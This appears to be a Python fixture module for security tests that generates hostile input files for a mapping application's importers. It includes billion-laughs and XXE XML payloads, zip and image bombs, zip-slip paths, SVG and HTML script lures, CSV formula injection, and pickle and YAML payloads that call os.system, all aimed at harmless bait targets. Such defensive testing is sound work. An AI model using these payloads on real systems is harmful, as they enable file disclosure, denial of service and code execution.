"""Files made to harm, family by family: small on the disk, large or sly when they are read.

`Bait` names a file and an address that nobody may touch: who opens either is caught.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple


class Bait(NamedTuple):
    """A file that no map has a reason to open, and an address that nobody has a reason to call."""

    path: str
    address: str


Made = Iterator[tuple[str, bytes]]
ROOTS = {
    "graphml": "<graphml><graph id='g'><node id='a'><data key='d'>{}</data></node></graph></graphml>",
    "gexf": "<gexf version='1.3'><graph><nodes><node id='a' label='{}'/></nodes></graph></gexf>",
    "drawio": "<mxfile><diagram name='{}'><mxGraphModel><root/></mxGraphModel></diagram></mxfile>",
    "opml": "<opml version='2.0'><body><outline text='{}'/></body></opml>",
    "mm": "<map version='1.0.1'><node TEXT='{}'/></map>",
    "xmile": "<xmile version='1.0'><model><variables><aux name='{}'/></variables></model></xmile>",
}


def native(**fields: Any) -> bytes:
    """A map of ours with these fields."""
    return json.dumps({"format": 1, "id": "hostile", "elements": [], "links": [], **fields}).encode()


def labelled(*labels: str, **fields: Any) -> bytes:
    return native(
        elements=[{"id": f"e{n}", "label": words, "x": n * 300} for n, words in enumerate(labels)], **fields
    )


# 1 to 3: XML


def laughs(bait: Bait) -> Made:
    for levels in (7, 12):
        names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(levels))
        for suffix, root in ROOTS.items():
            name = root.split()[0].strip("<>")
            text = f"<?xml version='1.0'?><!DOCTYPE {name} [{names}]>" + root.format(f"&l{levels - 1};")
            yield f"laughs-{levels}.{suffix}", text.encode()
    text = f'<!DOCTYPE opml [<!ENTITY q "{"q" * 100_000}">]>' + ROOTS["opml"].format("&q;" * 20_000)
    yield "quadratic.opml", text.encode()


def outside(bait: Bait) -> Made:
    for suffix, root in ROOTS.items():
        name = root.split()[0].strip("<>")
        inside = root.format("&x;")
        yield f"xxe.{suffix}", f'<!DOCTYPE {name} [<!ENTITY x SYSTEM "file://{bait.path}">]>{inside}'.encode()
        yield f"dtd.{suffix}", f'<!DOCTYPE {name} SYSTEM "{bait.address}/x.dtd">{root.format("a")}'.encode()
        yield (
            f"parameter.{suffix}",
            f'<!DOCTYPE {name} [<!ENTITY % p SYSTEM "{bait.address}/p"> %p;]>{root.format("a")}'.encode(),
        )
    xi = (
        '<graphml xmlns:xi="http://www.w3.org/2001/XInclude">' + f'<xi:include href="{bait.path}"/></graphml>'
    )
    yield "xinclude.graphml", xi.encode()
    yield (
        "sheet.graphml",
        f'<?xml-stylesheet href="{bait.address}/a.xsl"?>{ROOTS["graphml"].format("a")}'.encode(),
    )


def deep_xml(bait: Bait) -> Made:
    for suffix, name in (("graphml", "graph"), ("opml", "outline"), ("mm", "node"), ("drawio", "mxCell")):
        root = ROOTS[suffix].split()[0].strip("<>")
        yield (
            f"deep.{suffix}",
            (f"<{root}>" + f"<{name}>" * 150_000 + f"</{name}>" * 150_000 + f"</{root}>").encode(),
        )


# 4 to 7: archives


def drawio(bait: Bait) -> Made:
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = packed.compress(b"<mxGraphModel>" + b" " * 200_000_000) + packed.flush()
    for name, page in (
        ("bomb", base64.b64encode(bomb).decode()),
        ("bad-base64", "!!!é" * 200),
        ("empty", "AAAA"),
    ):
        yield f"deflate-{name}.drawio", f"<mxfile><diagram>{page}</diagram></mxfile>".encode()


def book(*, parts: dict[str, bytes] | None = None, twice: bool = False) -> bytes:
    """A workbook whose parts are ours to choose."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    usual = {
        "[Content_Types].xml": b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        "xl/workbook.xml": f"<workbook xmlns='{main}' xmlns:r='{office}'><sheets><sheet name='A' sheetId='1' "
        f"r:id='r1'/></sheets></workbook>".encode(),
        "xl/_rels/workbook.xml.rels": b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/"
        b"relationships'><Relationship Id='r1' Type='x/worksheet' Target='worksheets/sheet1.xml'/></Relationships>",  # noqa: E501
        "xl/worksheets/sheet1.xml": f"<worksheet xmlns='{main}'><sheetData><row r='1'><c r='A1' t='inlineStr'><is>"  # noqa: E501
        "<t>Label</t></is></c></row><row r='2'><c r='A2' t='inlineStr'><is><t>Eau</t></is></c></row></sheetData>"  # noqa: E501
        "</worksheet>".encode(),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in {**usual, **(parts or {})}.items():
            made.writestr(name, data)
    return out.getvalue()


def xlsx_bomb(bait: Bait) -> Made:
    sheet = "xl/worksheets/sheet1.xml"
    yield "bomb.xlsx", book(parts={sheet: b"<worksheet>" + b" " * 150_000_000})
    yield "strings.xlsx", book(parts={"xl/sharedStrings.xml": b"<sst><si><t>" + b"a" * 120_000_000})
    yield "many.xlsx", book(parts={f"x/{n}": b"" for n in range(3000)})


def xlsx_huge(bait: Bait) -> Made:
    head = b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
    far = (
        b"<dimension ref='A1:XFD1048576'/><sheetData><row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>x"  # noqa: E501
        b"</t></is></c></row></sheetData></worksheet>"
    )
    yield "dim.xlsx", book(parts={"xl/worksheets/sheet1.xml": head + far})


def xlsx_entities(bait: Bait) -> Made:
    for name, said in (("lol", '<!ENTITY x "ha">'), ("xxe", f'<!ENTITY x SYSTEM "file://{bait.path}">')):
        text = f"<!DOCTYPE sst [{said}]><sst><si><t>&x;</t></si></sst>"
        yield (
            f"{name}.xlsx",
            book(parts={"xl/sharedStrings.xml": text.encode(), "xl/styles.xml": text.encode()}),
        )


# 9: HTML


def html(bait: Bait) -> Made:
    lures = (
        f'<img src="{bait.path}">',
        f'<img src="file://{bait.path}">',
        f"<style>@import '{bait.path}';</style>x",
        f'<p style="background-image:url({bait.path})">x',
        f'<body background="{bait.path}">x',
        f'<a href="{bait.address}">x</a>',
        f'<img src="{bait.address}/x.png">',
        "<img src=//127.0.0.1/x>",
        f'<link rel="stylesheet" href="{bait.path}">',
        "<b>gras</b><script>alert(1)</script>",
    )
    card = {
        "title": lures[0],
        "question": lures[1],
        "summary": lures[2],
        "authors": [lures[0]],
        "licence": lures[4],
        "territory": {"name": lures[3]},
        "privacy": {"contact": lures[0]},
        "review_date": lures[0],
    }
    elements = [
        {
            "id": f"e{n}",
            "label": words,
            "description": words,
            "x": n * 300,
            "said_by": [words],
            "dates": {"text": words},
        }
        for n, words in enumerate(lures)
    ]
    links = [{"id": "l1", "source": "e0", "target": "e1", "verb": lures[0], "description": lures[1]}]
    zones = [
        {
            "id": "z1",
            "label": lures[0],
            "shape": {"type": "rect", "x": 0, "y": 0, "width": 900, "height": 500},
        }
    ]
    notes = [{"id": "n1", "text": lures[0], "x": 0, "y": 400}]
    views = [{"id": "v1", "name": lures[0]}]
    yield (
        "html.sysmap",
        native(card=card, elements=elements, links=links, zones=zones, notes=notes, views=views),
    )
    yield (
        f"<img src='{bait.path.rpartition('/')[2]}'>.sysmap".replace("/", ""),
        native(card=card, elements=elements),
    )


# 10 to 13: pictures


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, depth: int = 1) -> bytes:
    """A PNG of one colour, as small as it can be."""
    row = b"\0" + b"\0" * ((width * depth + 7) // 8)
    pack = zlib.compressobj(9)
    body = b"".join(pack.compress(row * 100) for _ in range(height // 100)) + pack.compress(
        row * (height % 100)
    )
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", body + pack.flush())
        + chunk(b"IEND", b"")
    )


def pictured(*data: bytes, media: str = "image/png") -> bytes:
    """A map with these pictures on it."""
    images = [
        {"id": f"i{n}", "media": media, "name": f"{n}.png", "data": base64.b64encode(one).decode()}
        for n, one in enumerate(data)
    ]
    pictures = [
        {"id": f"p{n}", "image": f"i{n}", "x": n % 8 * 300, "y": n // 8 * 300, "width": 280, "height": 280}
        for n in range(len(data))
    ]
    return native(images=images, pictures=pictures)


def drawings(bait: Bait) -> dict[str, bytes]:
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'  # noqa: E501
    return {
        "local": f'{head}<image xlink:href="{bait.path}" width="9" height="9"/></svg>'.encode(),
        "far": f'{head}<image href="{bait.address}/x.png" width="9" height="9"/></svg>'.encode(),
        "filter": f'{head}<filter id="f"><feGaussianBlur stdDeviation="9999"/></filter><rect width="99999" '
        'height="99999" filter="url(#f)"/></svg>'.encode(),
        "groups": (head + "<g>" * 100_000 + "</g>" * 100_000 + "</svg>").encode(),
        "script": f"{head}<script>fetch('{bait.address}')</script></svg>".encode(),
    }


def svg(bait: Bait) -> Made:
    found = drawings(bait)
    yield "svg-inside.sysmap", pictured(*found.values(), media="image/svg+xml")
    for name, data in found.items():
        yield f"{name}.svg", data
    text = base64.b64encode(labelled("x")[:-1]).decode()
    yield "cut.svg", f'<svg><metadata id="sysmap">{text}</metadata></svg>'.encode()


def wrong_type(bait: Bait) -> Made:
    found = drawings(bait)["local"]
    xpm = b'/* XPM */ static char *x[] = {"9000 9000 1 1", "a c #000"};'
    yield "svg-in-png-name.png", found
    yield (
        "wrong.sysmap",
        pictured(found, xpm, b"P6 99999 99999 255\n", b"BM" + b"\xff" * 60, b"\0\0\1\0" * 20, b"II*\0"),
    )


def image_bomb(bait: Bait) -> Made:
    yield "forty-thousand.sysmap", pictured(png(40_000, 40_000))
    large = png(7_700, 7_700)
    yield "fifty.sysmap", pictured(*[large] * 12, *[png(7_700, 7_600 + n) for n in range(6)])
    yield (
        "says-huge.sysmap",
        pictured(png(8, 8).replace(struct.pack(">II", 8, 8), struct.pack(">II", 2**31 - 1, 2**31 - 1))),
    )
    yield "bomb.png", png(30_000, 30_000)


def corrupt_image(bait: Bait) -> Made:
    sound = png(64, 64, 8)
    cuts = [sound[:n] for n in (0, 8, 20, 33, 40, len(sound) - 5)]
    flips = [
        bytes(b ^ (0xFF if at == n else 0) for at, b in enumerate(sound)) for n in range(8, len(sound), 5)
    ]
    jpegs = [
        b"\xff\xd8\xff" + b"\xff\xe0" * 40,
        b"\xff\xd8\xff\xdb\0\x02",
        b"GIF89a" + b"\xff" * 300,
        b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\xff" * 90,
        b"RIFF\0\0\0\0WEBPVP8X" + b"\0" * 90,
    ]
    yield "corrupt.sysmap", pictured(*cuts, *flips, *jpegs)
    yield "cut-map.png", sound[:20] + chunk(b"smAP", b"not packed") + sound[20:]
    swollen = zlib.compress(b" " * 250_000_000, 9)
    yield "swollen-map.png", sound[:33] + chunk(b"smAP", swollen) + sound[33:]


# 14 to 18: names, numbers, encodings, knots, DOT


def paths(bait: Bait) -> Made:
    lures = (
        bait.path,
        f"file://{bait.path}",
        "../../../../etc/hostname",
        "//127.0.0.1/bait",
        "\\\\127.0.0.1\\bait",
        "CON",
        "..\\..\\x",
        f"{bait.address}/a.png",
    )
    elements = [{"_id": f"e{n}", "label": f"x{n}", "image": lure} for n, lure in enumerate(lures)]
    yield "kumu-paths.json", json.dumps({"elements": elements, "connections": []}).encode()
    yield "zip-slip.xlsx", book(parts={"../../../tmp/slipped.txt": b"x", "/etc/slipped": b"x"})
    named = [{"id": lure, "label": "x", "x": n * 200} for n, lure in enumerate(lures)]
    images = [{"id": lure, "media": "image/png", "name": lure, "data": lure} for lure in lures]
    shown = [{"id": f"p{n}", "image": lure, "width": 90, "height": 90} for n, lure in enumerate(lures)]
    yield (
        "names.sysmap",
        native(
            id="../../../../tmp/slipped",
            elements=named,
            images=images,
            pictures=shown,
            template=bait.path,
            card={"title": "../../slipped", "logos": list(lures)},
        ),
    )


def numbers(bait: Bait) -> Made:
    for name, said in (
        ("nan", "NaN"),
        ("inf", "-Infinity"),
        ("big", "1e999"),
        ("long", "9" * 5000),
        ("edge", "1e308"),
    ):
        yield (
            f"{name}.sysmap",
            native(elements=[{"id": "a", "x": "@"}, {"id": "b", "x": 9e9, "width": -5}]).replace(
                b'"@"', said.encode()
            ),
        )
        yield (
            f"kumu-{name}.json",
            b'{"elements": [{"label": "a", "x": ' + said.encode() + b'}], "connections": []}',
        )
    many = [
        {"id": f"z{n}", "shape": {"type": "rect", "x": -1e6, "y": 1e6, "width": 1e5, "height": 1e5}}
        for n in range(50)
    ]
    yield (
        "far.sysmap",
        native(
            zones=many,
            elements=[{"id": "a", "x": 1e6, "y": -1e6}, {"id": "b", "x": -1e6, "y": 1e6}],
            links=[{"id": "l", "source": "a", "target": "b"}],
        ),
    )
    viz = "xmlns:viz='http://gexf.net/1.3/viz'"
    yield (
        "nan.gexf",
        (
            f"<gexf {viz}><graph><nodes><node id='a'><viz:position x='NaN' y='inf'/></node>"
            "</nodes></graph></gexf>"
        ).encode(),
    )


def encodings(bait: Bait) -> Made:
    sound = labelled("Écluse")
    text = sound.decode()
    for name in ("utf-16", "utf-32", "utf-8-sig", "latin-1"):
        yield f"{name}.sysmap", text.replace("\\u00c9", "É").encode(name)
    yield "deep.sysmap", b'{"format": 1, "elements": [], "links": [], "x": ' + b"[" * 300_000
    yield (
        "deep-object.sysmap",
        b'{"format": 1, "elements": [], "links": [], "x": ' + b'{"a":' * 199 + b"1" + b"}" * 200,
    )
    yield "zeros.sysmap", b"\0" * 500_000
    yield "conflict.sysmap", b"<<<<<<< HEAD\n" + sound
    yield "digits.sysmap", b'{"format": ' + b"9" * 200_000 + b"}"
    yield "cut.sysmap", sound[: len(sound) // 2]


def tangled(bait: Bait) -> Made:
    yield (
        "twice.sysmap",
        b'{"format": 1, "links": [], "elements": [{"id": "a", "label": "1", "label": "2"}], "elements": []}',
    )
    same = [{"id": "a", "label": str(n)} for n in range(50)]
    loose = [{"id": f"l{n}", "source": "a", "target": f"x{n}"} for n in range(50)]
    yield "loose.sysmap", native(elements=same, links=[*loose, {"id": "s", "source": "a", "target": "a"}])
    turned = [{"id": "z1", "zones": ["z2"]}, {"id": "z2", "zones": ["z1"]}]
    yield (
        "circle.sysmap",
        native(
            zones=turned,
            elements=[{"id": "a", "kind": "zzz", "zones": ["a", "z1"]}],
            views=[{"id": "v", "loop": "v"}],
            loops=[{"id": "o", "links": ["o", "x"]}],
        ),
    )
    cells = "".join(
        f'<mxCell id="{a}" parent="{b}" vertex="1" value="x"/>'
        for a, b in (("1", "2"), ("2", "1"), ("3", "3"))
    )
    yield (
        "parents.drawio",
        f"<mxfile><diagram><mxGraphModel><root>{cells}</root></mxGraphModel></diagram></mxfile>".encode(),
    )
    for kind in (None, 3, "x", [3], {"a": 3}, [[[]]]):
        fields = dict.fromkeys(
            ("elements", "links", "zones", "views", "card", "posters", "stories", "images", "loops"), kind
        )
        yield f"kind-{json.dumps(kind)[:3].strip()}.sysmap".replace('"', "q"), native(**fields)


def dot(bait: Bait) -> Made:
    for name, said in (
        ("files", f'a [shapefile="{bait.path}", image="{bait.path}"]; graph [fontpath="{bait.path}"]'),
        ("sides", "a [shape=polygon, sides=2000000000]"),
        ("peripheries", "a [peripheries=100000000]"),
        ("minlen", "a -> b [minlen=2000000000]"),
        ("dense", "; ".join(f"n{n % 60} -> n{n // 60}" for n in range(3600))),
        ("deep", "{" * 30_000),
        ("label", f'a [label="{"x" * 2_000_000}"]'),
        ("html", f"a [label=<<img src='{bait.path}'/>>]"),
    ):
        yield f"{name}.dot", f"digraph x {{ {said} }}".encode()
    yield "spaces.dot", b" " * 7000 + b"x"
    yield "remarks.dot", b"/*" * 3900


# 20 to 22, 23, 28


def unicode(bait: Bait) -> Made:
    marks = "".join(chr(0x300 + n % 60) for n in range(3000))
    labels = (
        "a" + marks,
        "\u202etxt.exe\u202c",
        "\u2066\u2067" * 500,
        "\u0000\u0007\u001b[31m",
        "\ufffe\uffff",
        "👩‍👩‍👧‍👦" * 200,
        "\u200b" * 5000,
        "ﷺ" * 300,
        "\n" * 3000,
        "\t" * 3000,
        "\u2028\u2029",
        "x" + "\U000e0041" * 999,
    )
    yield "unicode.sysmap", labelled(*labels, card={"title": labels[1] + labels[0], "question": labels[8]})
    yield "surrogate.sysmap", labelled("x").replace(b'"x"', b'"\\ud800\\udbff \\udc00"')
    elements = [{"label": words} for words in labels]
    yield "kumu-unicode.json", json.dumps({"elements": elements, "connections": []}).encode()


def long_words(bait: Bait) -> Made:
    yield "long.sysmap", labelled("x" * 1_000_000, "mot " * 250_000, "\n".join("x" * 90_000))
    yield (
        "long-all.sysmap",
        native(
            card={"title": "mot " * 50_000, "question": "x" * 200_000},
            elements=[{"id": "a"}, {"id": "b", "x": 400, "description": "mot " * 100_000}],
            links=[{"id": "l", "source": "a", "target": "b", "verb": "dit " * 50_000}],
            zones=[
                {"id": "z", "label": "zone " * 50_000, "shape": {"type": "rect", "width": 300, "height": 300}}
            ],
            notes=[{"id": "n", "text": "note " * 100_000}],
        ),
    )


def csv(bait: Bait) -> Made:
    yield "unclosed.csv", b'Label;Note\n"Eau;x\n' + b"y;z\n" * 20_000
    yield "long-field.csv", b"Label;Note\nEau;" + b"x" * 3_000_000 + b"\n"
    yield "nul.csv", b"Label;Note\nEa\0u;x\n\0\0\n"
    yield "wide.csv", b";".join(b"c%d" % n for n in range(60_000)) + b"\n" + b"x;" * 60_000
    yield "tall.csv", b"Label\n" + b"x\n" * 300_000
    yield "formulas.csv", b"Label;Note\n=1+1;@x\n+2;-3\n\"=cmd|'/c calc'!A1\";\ty\n"


def code(bait: Bait) -> Made:
    yield "pickle.sysmap", b"cos\nsystem\n(S'touch " + bait.path.encode() + b".ran'\ntR."
    yield "pickle.json", b"\x80\x04\x95" + b"\0" * 80
    yield "python.json", b"__import__('os').system('true')"
    yield "yaml.json", b"!!python/object/apply:os.system ['true']"
    yield "settings.sysmap", b"[General]\nx=@Variant(\\0\\0\\0\\x7f)"


def fonts(bait: Bait) -> Made:
    named = {"font": bait.path, "family": "x" * 10_000, "theme": "../x.ttf"}
    yield (
        "fonts.sysmap",
        labelled("x", **named, posters=[{"id": "p", "font": bait.path, "palette": "../x.ttf"}]),
    )


FAMILIES: dict[str, Callable[[Bait], Made]] = {
    made.__name__: made
    for made in (
        laughs,
        outside,
        deep_xml,
        drawio,
        xlsx_bomb,
        xlsx_huge,
        xlsx_entities,
        html,
        svg,
        wrong_type,
        image_bomb,
        corrupt_image,
        paths,
        numbers,
        encodings,
        tangled,
        dot,
        unicode,
        long_words,
        csv,
        code,
        fonts,
    )
}
